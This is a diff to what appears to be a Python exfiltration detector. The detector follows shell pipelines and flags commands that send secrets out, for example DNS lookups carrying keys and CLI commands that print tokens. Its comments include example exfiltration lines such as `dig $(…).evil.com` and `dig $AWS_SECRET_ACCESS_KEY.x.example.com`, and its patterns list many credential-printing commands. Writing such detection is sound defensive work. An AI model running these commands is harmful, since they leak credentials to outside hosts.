@@ -24,7 +24,30 @@ _RAW = frozenset(
 )
 _COPIES = frozenset({"scp", "rsync", "sftp"})
 _CLOUD_COPY = frozenset({"aws", "gsutil", "rclone", "az", "gh", "s3cmd", "mc", "gcloud"})
-_SENDERS = _RAW | _COPIES | _CLOUD_COPY
+# A name looked up carries what it is built from to the name servers (`dig $(…).evil.com`).
+_RESOLVERS = frozenset(
+    {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "getent", "resolvectl"}
+)
+_SENDERS = _RAW | _COPIES | _CLOUD_COPY | _RESOLVERS
+# Credentials a CLI prints: a token, exported keys, a raw kubeconfig, a secret's value.
+_CLI_PRINTERS = frozenset(
+    {"gh", "aws", "gcloud", "az", "kubectl", "oc", "git", "security", "vault", "op", "pass"}
+    | {"heroku", "doctl", "bw"}
+)
+_PRINTS_CREDENTIAL = re.compile(
+    r"gh auth (?:token|status\b.*(?:-t|--show-token)\b)"
+    r"|aws\b.* (?:configure export-credentials|configure get \S*(?:secret|token|key)"
+    r"|ecr get-login-password|sts get-session-token|codeartifact get-authorization-token"
+    r"|secretsmanager get-secret-value|ssm get-parameters?\b.*--with-decryption)"
+    r"|gcloud\b.* (?:auth (?:application-default )?print-(?:access|identity)-token"
+    r"|secrets versions access)"
+    r"|az\b.* (?:account get-access-token|keyvault secret (?:show|download))"
+    r"|(?:kubectl|oc)\b.* (?:config view\b.*--raw|get secrets?\b.* (?:-o|--output)\b)"
+    r"|oc whoami (?:-t|--show-token)|git credential fill|security find-\w+-password\b.* -[wg]\b"
+    r"|vault (?:kv get|read|print token)|op (?:read|item get)|pass show|heroku auth:token"
+    r"|doctl auth token|bw get (?:password|item)"
+)
+_HEADER_OPTIONS = ("-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user")
 _SSH_VALUES = frozenset({"-i", "-P", "-p", "-o", "-F", "-e", "-c", "-l", "-S", "-J", "--rsh"})
 _CURL_DATA = ("-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json")
 _CURL_FORM = ("-F", "--form")
@@ -48,6 +71,7 @@ class Pipeline:
     def __init__(self) -> None:
         self.flowing: str | None = None  # the secret in the current pipe, if any
         self.stashed: set[str] = set()  # files a secret was written to (env > /tmp/e)
+        self.headers: list[str] = []  # the headers senders were given (a token's place)
 
     def add(self, command: Command, producer: Command | None) -> str | None:
         """Follow ``command`` (``producer``: the command piped into it); say what it sends to
@@ -63,8 +87,14 @@ class Pipeline:
             self.stashed.update(command.redirects)
         self.stashed.update(_copies_of_secrets(unwrap(command.words)[0]))
         words, _ = unwrap(command.words)
+        if words and basename(words[0]) in ("curl", "wget", "http", "https", "xh"):
+            self._keep_headers(words)
         if command.feeds in _SENDERS and read is not None and not read.startswith("$"):
-            return f"Sends {read} to the network ({command.feeds})"
+            # A token a CLI prints, in a header: `curl -H "Authorization: Bearer $(gcloud auth
+            # print-access-token)"` calls the API it is for.
+            printer = f"$({words[0]}" if words else ""
+            if not (command.quoted_by and printed_credential(words) and self._in_header(printer)):
+                return f"Sends {read} to the network ({command.feeds})"
         if not words:
             return None
         sent = _sent_by(words, stdin, self._holds_secret)
@@ -74,8 +104,42 @@ class Pipeline:
             sent = read or stdin
         return f"Sends {sent} to the network ({basename(words[0])})" if sent else None
 
+    def _keep_headers(self, words: Sequence[str]) -> None:
+        for option, value in zip(words, [*words[1:], ""], strict=True):
+            if len(self.headers) >= _HEADERS:
+                return
+            clustered = option[:1] == "-" and option[1:2] not in ("-", "") and option[-1] in "Hu"
+            if option in _HEADER_OPTIONS or clustered:  # -H, -sH
+                self.headers.append(value)
+            elif option.startswith(("--header=", "--user=")):
+                self.headers.append(option.partition("=")[2])
+
+    def _in_header(self, printer: str) -> bool:
+        return any(printer in header for header in self.headers)
+
     def _holds_secret(self, path: str) -> bool:
         return path in self.stashed or is_credential(path)
+
+
+_HEADERS = 16
+
+
+def printed_credential(words: Sequence[str]) -> str | None:
+    """The credential a CLI prints (``gh auth token``, ``aws configure export-credentials``,
+    ``gcloud auth print-access-token``, ``kubectl config view --raw``), named, or None."""
+    if not words:
+        return None
+    name = basename(words[0])
+    if name not in _CLI_PRINTERS and not name.startswith("docker-credential-"):
+        return None
+    if name.startswith("docker-credential-") and "get" in words[1:]:
+        return f"the registry credential {name} prints"
+    line = " ".join([name, *words[1:_CLI_WORDS]])
+    found = _PRINTS_CREDENTIAL.match(line)
+    return f"the credential `{' '.join(words[:3])}` prints" if found else None
+
+
+_CLI_WORDS = 10  # a CLI's subcommand and options are in its first words
 
 
 def _copies_of_secrets(words: Sequence[str]) -> list[str]:
@@ -125,6 +189,8 @@ def _secret_read_by(command: Command) -> str | None:
         if named:
             return "$" + named
     words, _ = unwrap(command.words)
+    if printed := printed_credential(words):
+        return printed
     if not words or basename(words[0]) in _NOT_READERS or basename(words[0]) in _SENDERS:
         return next((f for f in command.inputs if is_credential(f)), None)
     found = [w for w in operands(words[1:]) if is_credential(w)]
@@ -167,6 +233,10 @@ def _sent_by(
         attached = args[args.index("-a") + 1 :]
         if attachment := next((a for a in attached if is_credential(a)), None):
             return attachment
+    if name in _RESOLVERS:  # dig $AWS_SECRET_ACCESS_KEY.x.example.com
+        return next(
+            (m.group(1) for w in args if (m := _SECRET_VARIABLE.search(w)) and "$" in w), None
+        )
     if name in _CLOUD_COPY:
         found = operands(args)
         remote = any("://" in f or _remote(f) for f in found) or found[:2] == ["gist", "create"]
